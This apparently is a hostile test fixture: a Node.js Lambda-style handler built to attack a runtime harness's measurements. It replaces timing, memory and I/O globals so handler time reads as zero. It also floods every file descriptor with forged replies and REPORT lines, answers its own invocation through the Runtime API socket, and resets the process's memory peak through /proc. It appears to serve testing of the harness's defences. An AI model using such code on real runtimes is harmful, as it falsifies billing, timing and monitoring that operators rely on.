// Hostile code of the attack tables: it replaces every global that a program beside it could use to measure or to
// speak, before its first request, and then does what the path says. Its own work is measured by clocks that it keeps.
import fs from 'node:fs';
import http from 'node:http';
import { syncBuiltinESMExports } from 'node:module';
import net from 'node:net';
import { Writable } from 'node:stream';

const { WORK_MS = '20', HELD_MIB = '96' } = process.env;
const spent = process.cpuUsage.bind(process);
const clock = process.hrtime.bigint.bind(process.hrtime);
const { readdirSync, writeFileSync, writeSync } = fs;
const { alloc, concat, from } = Buffer;
const { stringify } = JSON;
const connect = net.connect;
const writeRaw = net.Socket.prototype.write;

/** Until so much CPU time is used and so much time has passed. */
function work(ms) {
  const [before, began] = [spent(), clock()];
  for (;;) {
    const { user, system } = spent(before);
    if (user + system >= ms * 1e3 && clock() - began >= BigInt(ms) * 1_000_000n) return;
  }
}

const frameOf = (message) => {
  const json = from(stringify(message));
  const head = alloc(4);
  head[2] = json.length >> 8;
  head[3] = json.length & 255;
  return concat([head, json]);
};
const REPORT =
  'END RequestId: 1\nREPORT RequestId: 1\tDuration: 0.01 ms\tBilled Duration: 1 ms\tMemory Size: 128 MB\tMax Memory Used: 1 MB\t\n';
const HEADERS = {
  'x-crossover-handler-ms': '0.001',
  'x-crossover-printed': '0',
  'x-crossover-ends': '0',
  'x-crossover-request-id': '1',
  'lambda-runtime-duration-ms': '0',
  'x-amzn-billed-duration': '1',
};
const HTTP = `HTTP/1.1 200 OK\r\nx-crossover-handler-ms: 0.001\r\nx-crossover-printed: 0\r\ncontent-length: 6\r\n\r\nforged`;
const REPLY = { type: 'reply', id: '1', handlerMs: 0, status: 200, headers: {}, body: 'forged' };

const forgedText = (value) =>
  typeof value === 'string'
    ? value
        .replace(/"handlerMs":[\d.e+-]+/g, '"handlerMs":0')
        .replace(/(x-crossover-handler-ms: )[\d.]+/gi, '$10.001')
    : value;
const forgedValue = (value) =>
  typeof value === 'object' && value !== null && 'handlerMs' in value ? { ...value, handlerMs: 0 } : value;

/** Every one of these does what it did, with other texts and numbers. */
function replace(owner, names, change) {
  for (const name of names) {
    const before = owner[name];
    if (typeof before !== 'function') continue;
    owner[name] = function replaced(...args) {
      return before.apply(this, args.map(change));
    };
  }
}

let response = null;
function replaceAll() {
  replace(JSON, ['stringify'], forgedValue);
  replace(JSON, ['parse'], (value) => value);
  const { prototype } = Buffer;
  replace(prototype, ['write', 'utf8Write', 'utf8Slice', 'toString', 'copy', 'fill'], forgedText);
  replace(prototype, ['writeUInt32BE', 'readUInt32BE', 'subarray', 'slice'], (value) => value);
  replace(Buffer, ['from', 'concat', 'byteLength'], forgedText);
  replace(fs, ['writeSync', 'readSync', 'write', 'read'], forgedText);
  replace(net.Socket.prototype, ['write', '_write', '_writev', '_writeGeneric', 'end'], forgedText);
  replace(Writable.prototype, ['write', 'end'], forgedText);
  replace(http.OutgoingMessage.prototype, ['write', 'end', '_send', '_writeRaw', '_storeHeader'], forgedText);
  const { setHeader } = http.OutgoingMessage.prototype;
  http.OutgoingMessage.prototype.setHeader = function forged(name, value) {
    response = this;
    return setHeader.call(this, name, name === 'x-crossover-handler-ms' ? '0.001' : value);
  };
  Number.prototype.toFixed = () => '0.000';
  performance.now = () => 0;
  Date.now = () => 0;
  process.hrtime = Object.assign(() => [0, 0], { bigint: () => 0n });
  process.uptime = () => 0;
  process.cpuUsage = () => ({ user: 0, system: 0 });
  process.memoryUsage = Object.assign(() => ({ rss: 1 }), { rss: () => 1 });
  for (const name of ['setTimeout', 'setImmediate', 'queueMicrotask', 'clearTimeout'])
    replace(globalThis, [name], (value) => value);
  syncBuiltinESMExports();
}
replaceAll();

function everyDescriptor() {
  for (const name of readdirSync('/proc/self/fd')) {
    for (const bytes of [frameOf(REPLY), HTTP, REPORT]) {
      try {
        writeSync(Number(name), bytes);
      } catch {
        // It is not open for that.
      }
    }
  }
}

/** The answer to its own request by the socket of the Runtime API, where there is one. */
const answerItself = (id) =>
  new Promise((done) => {
    const body = '"forged"';
    const socket = connect('/run/services/runtime-api.sock', () =>
      writeRaw.call(
        socket,
        `POST /2018-06-01/runtime/invocation/${id}/response HTTP/1.1\r\nhost: x\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
      ),
    );
    for (const event of ['data', 'error', 'close']) socket.on(event, done);
  });

function holdMemory() {
  let held = alloc(Number(HELD_MIB) << 20, 1);
  held = null;
  // Sets the peak of this process back to what it holds now (proc(5), clear_refs).
  for (const file of ['clear_refs', 'oom_score_adj']) {
    try {
      writeFileSync(`/proc/self/${file}`, '5');
    } catch {
      // It is read-only here.
    }
  }
  return held;
}

const ACTS = {
  '/descriptors': everyDescriptor,
  '/report': () => {
    console.log(REPORT);
    console.error(REPORT);
  },
  '/memory': holdMemory,
  '/twice': async (id) => {
    await answerItself(id);
    if (response?.socket) writeRaw.call(response.socket, HTTP);
    try {
      writeSync(3, frameOf(REPLY));
    } catch {
      // There is no such descriptor on this way.
    }
  },
};

export const handler = async ({ rawPath }, { awsRequestId }) => {
  await ACTS[rawPath]?.(awsRequestId);
  work(Number(WORK_MS));
  return { statusCode: 200, headers: rawPath === '/headers' ? HEADERS : {}, body: 'done' };
};
